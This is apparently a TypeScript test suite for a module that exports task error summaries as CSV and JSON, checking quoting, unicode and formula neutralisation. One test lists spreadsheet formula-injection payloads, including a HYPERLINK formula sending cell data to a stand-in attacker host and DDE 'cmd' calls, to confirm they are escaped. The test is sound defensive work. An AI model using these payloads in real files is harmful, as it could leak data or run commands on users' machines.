import * as assert from 'node:assert/strict';
import { chunkNote, csvField, CSV_HEADER, errorsAsCsv, errorsAsJson, type ErrorFileMeta } from '../../../src/files/errorFile';
import { parseErrorSummary, summaryNotes } from '../../../src/panel/errorSummary';
import type { ErrorEntry } from '../../../src/webview/protocol/taskView';

const META: ErrorFileMeta = { taskId: 'task_01JQ7B2C3D4E5F6G7H8J9K0M2P', exportedAt: new Date('2026-12-02T16:30:00.000Z'), filter: '', total: 3 };

const record = (number: number | undefined, message: string): ErrorEntry => ({ kind: 'Record', number, message, text: `Record ${number}: ${message}` });
const other = (text: string): ErrorEntry => ({ kind: 'other', number: undefined, message: text, text });

/** RFC 4180 read back: rows of fields, quotes undone. Throws on what the RFC does not allow. */
function readCsv(text: string): string[][] {
  assert.ok(text.startsWith('\uFEFF'), 'starts with a UTF-8 byte-order mark');
  const body = text.slice(1);
  assert.ok(body.endsWith('\r\n'), 'ends with CRLF');
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < body.length) {
    let field = '';
    if (body[i] === '"') {
      i++;
      for (;;) {
        const quote = body.indexOf('"', i);
        assert.notEqual(quote, -1, 'a quoted field is closed');
        field += body.slice(i, quote);
        i = quote + 1;
        if (body[i] === '"') {
          field += '"';
          i++;
        } else break;
      }
    } else {
      const end = body.slice(i).search(/[,\r\n"]/);
      field = end === -1 ? body.slice(i) : body.slice(i, i + end);
      i += field.length;
      assert.notEqual(body[i], '"', 'no quote inside an unquoted field');
    }
    row.push(field);
    if (body[i] === ',') i++;
    else {
      assert.equal(body.slice(i, i + 2), '\r\n', 'rows end with CRLF, never a bare CR or LF');
      i += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

describe('errorsAsCsv', () => {
  it('writes a header, then kind, number, chunk note and message for each entry', () => {
    const entries = parseErrorSummary("Record 3: invalid value for field 'amount'; Chunk 2: timeout; Final chunk 7: EOF; CSV read error: bad header");
    const rows = readCsv(errorsAsCsv(entries, { ...META, total: entries.length }));
    assert.deepEqual(rows[0], [...CSV_HEADER]);
    assert.deepEqual(rows.slice(1), [
      ['Record', '3', 'row 4 of its 1,000-row chunk, not of the file', "invalid value for field 'amount'"],
      ['Chunk', '2', 'an error of a whole 1,000-row chunk, not of one record', 'timeout'],
      ['Final chunk', '7', "an error of the file's last chunk, not of one record", 'EOF'],
      ['Other', '', '', 'CSV read error: bad header'],
    ]);
  });

  it('quotes commas, quotes and line breaks, doubling the quotes, so every message reads back as sent', () => {
    const hostile = [
      'customer "acme, inc." not found',
      'line one\nline two',
      'cr\r\nlf and a lone\rcr',
      '"',
      '""',
      ',',
      'ends with a quote"',
      'a,b,"c",d\r\n,,,',
    ];
    const text = errorsAsCsv(hostile.map((message, i) => record(i, message)), META);
    const rows = readCsv(text);
    assert.equal(rows.length, 1 + hostile.length);
    assert.deepEqual(rows.slice(1).map((row) => row[3]), hostile);
    for (const row of rows) assert.equal(row.length, 4, 'every row has four fields');
    assert.match(text, /,"customer ""acme, inc\."" not found"\r\n/);
  });

  it('neutralises what a spreadsheet would run as a formula with a leading quote', () => {
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\tTAB', '\rCR', '=cmd|"/c calc"!A1'];
    const rows = readCsv(errorsAsCsv(formulas.map((message, i) => record(i, message)), META));
    assert.deepEqual(rows.slice(1).map((row) => row[3]), formulas.map((message) => `'${message}`));
    // Only the first character matters: inside a message they are text already.
    assert.equal(csvField('total = 3 + 4 - 1 @ noon'), 'total = 3 + 4 - 1 @ noon');
    assert.equal(csvField("'=already quoted"), "'=already quoted");
    assert.equal(csvField('=1,2'), `"'=1,2"`);
    assert.equal(csvField('=say "hi"'), `"'=say ""hi"""`);
  });

  it('keeps unicode as it is: accents, CJK, emoji, right-to-left and combining marks', () => {
    const messages = ['client «Zoë» introuvable', '顧客が見つかりません', 'montant 💸 invalide 👩🏽‍💻', 'العميل غير موجود', 'e\u0301\u200b\u2028zero width and line separator'];
    const rows = readCsv(errorsAsCsv(messages.map((message, i) => record(i, message)), META));
    assert.deepEqual(rows.slice(1).map((row) => row[3]), messages);
  });

  it('adds a Note row for a filter, a cut summary and unparsed text, and none otherwise', () => {
    const entries = [record(1, 'customer not found')];
    assert.equal(readCsv(errorsAsCsv(entries, META)).filter((row) => row[0] === 'Note').length, 0);
    const rows = readCsv(errorsAsCsv(entries, { ...META, filter: ' customer ', total: 1_000, truncated: 'it stops mid-entry.', unparsed: '1 of 1 entries is kept whole.' }));
    const notes = rows.filter((row) => row[0] === 'Note');
    assert.deepEqual(notes.map((row) => row.slice(0, 3)), [['Note', '', ''], ['Note', '', ''], ['Note', '', '']]);
    assert.match(notes[0]![3]!, /^Filtered: 1 of 1,000 entries, those containing "customer" \(task task_01JQ7B2C3D4E5F6G7H8J9K0M2P, saved 2026-12-02T16:30:00.000Z\)\.$/);
    assert.equal(notes[1]![3], 'Cut: it stops mid-entry.');
    assert.equal(notes[2]![3], 'Unparsed: 1 of 1 entries is kept whole.');
    assert.deepEqual(rows.at(-4), ['Record', '1', 'row 2 of its 1,000-row chunk, not of the file', 'customer not found'], 'notes come after the entries');
  });

  it('never lets a filter typed as a formula start a field', () => {
    const rows = readCsv(errorsAsCsv([record(0, 'x')], { ...META, filter: '=1+1' }));
    for (const row of rows) for (const field of row) assert.doesNotMatch(field, /^[=+\-@\t\r]/);
  });

  it('writes records with numbers too large to count on, and without a number', () => {
    const rows = readCsv(errorsAsCsv([record(Number.MAX_SAFE_INTEGER, 'big'), record(1e300, 'huge'), record(undefined, 'none')], META));
    assert.deepEqual(rows.slice(1).map((row) => row.slice(0, 3)), [
      ['Record', String(Number.MAX_SAFE_INTEGER), `row ${(2 ** 53).toLocaleString('en-US')} of its 1,000-row chunk, not of the file`],
      ['Record', '1e+300', 'counted from 0 within its 1,000-row chunk, not the file'],
      ['Record', '', 'counted from 0 within its 1,000-row chunk, not the file'],
    ]);
  });

  it('writes 100,000 entries quickly, each on its own row', () => {
    const summary = Array.from({ length: 100_000 }, (_, i) => (i % 10 === 0 ? `Chunk ${i}: "timeout", retry` : `Record ${i % 1000}: =bad value, line\nbreak ${i}`)).join('; ');
    const entries = parseErrorSummary(summary);
    assert.equal(entries.length, 100_000);
    const started = performance.now();
    const csv = errorsAsCsv(entries, { ...META, total: entries.length });
    const json = errorsAsJson(entries, { ...META, total: entries.length });
    const ms = performance.now() - started;
    assert.ok(ms < 1_000, `both files in ${Math.round(ms)} ms`);
    const rows = readCsv(csv);
    assert.equal(rows.length, 100_001);
    assert.equal(rows[2]![3], "'=bad value, line\nbreak 1");
    assert.equal((JSON.parse(json) as { errors: unknown[] }).errors.length, 100_000);
  });
});

describe('errorsAsJson', () => {
  it('writes the task, when, the filter, the notes and every entry, hostile text included', () => {
    const entries = [record(3, '=HYPERLINK("x")'), other('CSV read error: "quoted", \n broken'), { kind: 'finalChunk', number: 2, message: '💥', text: 'Final chunk 2: 💥' } as ErrorEntry];
    const parsed = JSON.parse(errorsAsJson(entries, { ...META, filter: 'r', total: 10, truncated: 'cut.', unparsed: 'kept whole.' })) as Record<string, unknown>;
    assert.deepEqual(parsed, {
      task_id: META.taskId,
      exported_at: '2026-12-02T16:30:00.000Z',
      filter: 'r',
      entries_total: 10,
      entries_saved: 3,
      truncated: 'cut.',
      unparsed: 'kept whole.',
      errors: [
        { kind: 'Record', number: 3, chunk_note: 'row 4 of its 1,000-row chunk, not of the file', message: '=HYPERLINK("x")', text: 'Record 3: =HYPERLINK("x")' },
        { kind: 'Other', number: null, chunk_note: null, message: 'CSV read error: "quoted", \n broken', text: 'CSV read error: "quoted", \n broken' },
        { kind: 'Final chunk', number: 2, chunk_note: "an error of the file's last chunk, not of one record", message: '💥', text: 'Final chunk 2: 💥' },
      ],
    });
  });

  it('says null for no filter and no notes', () => {
    const parsed = JSON.parse(errorsAsJson([record(0, 'x')], { ...META, filter: '   ' })) as Record<string, unknown>;
    assert.equal(parsed.filter, null);
    assert.equal(parsed.truncated, null);
    assert.equal(parsed.unparsed, null);
  });
});

describe('chunkNote', () => {
  it('counts records from 0 within their chunk', () => {
    assert.equal(chunkNote(record(0, 'x')), 'row 1 of its 1,000-row chunk, not of the file');
    assert.equal(chunkNote(record(999, 'x')), 'row 1,000 of its 1,000-row chunk, not of the file');
    assert.equal(chunkNote(other('x')), '');
  });
});

describe('summaryNotes', () => {
  it('says nothing of a summary read whole', () => {
    const entries = parseErrorSummary('Record 1: a; Record 2: b; CSV read error: c');
    assert.deepEqual(summaryNotes(entries, 3), {});
    assert.deepEqual(summaryNotes(parseErrorSummary('Record 1: a; Chunk 2: timeout'), 5_000), {}, 'a chunk error may stand for many rows');
  });

  it('says the summary was cut when it stops right after an entry head', () => {
    const notes = summaryNotes(parseErrorSummary('Record 1: a; Record 17:'), undefined);
    assert.match(notes.truncated ?? '', /stops right after "Record 17:"/);
  });

  it('says the summary was cut when it names fewer records than failed', () => {
    const notes = summaryNotes(parseErrorSummary('Record 1: a; Record 2: b'), 2_347);
    assert.equal(notes.truncated, "The task counts 2,347 failed records but the server's summary names 2: it was cut or leaves some out.");
  });

  it('says when text did not read as entries: a wrapped export error, or pieces without a head', () => {
    const wrapped = summaryNotes(parseErrorSummary('activity error (type: ExportData, scheduledEventID: 11): failed to upload to s3: AccessDenied (type: wrapError, retryable: true)'), 0);
    assert.match(wrapped.unparsed ?? '', /kept whole as one message/);
    const mixed = summaryNotes(parseErrorSummary('garbage at the start; Record 1: a; Chunk 2: b'), undefined);
    assert.match(mixed.unparsed ?? '', /^1 of 3 entries do not start with/);
  });
});
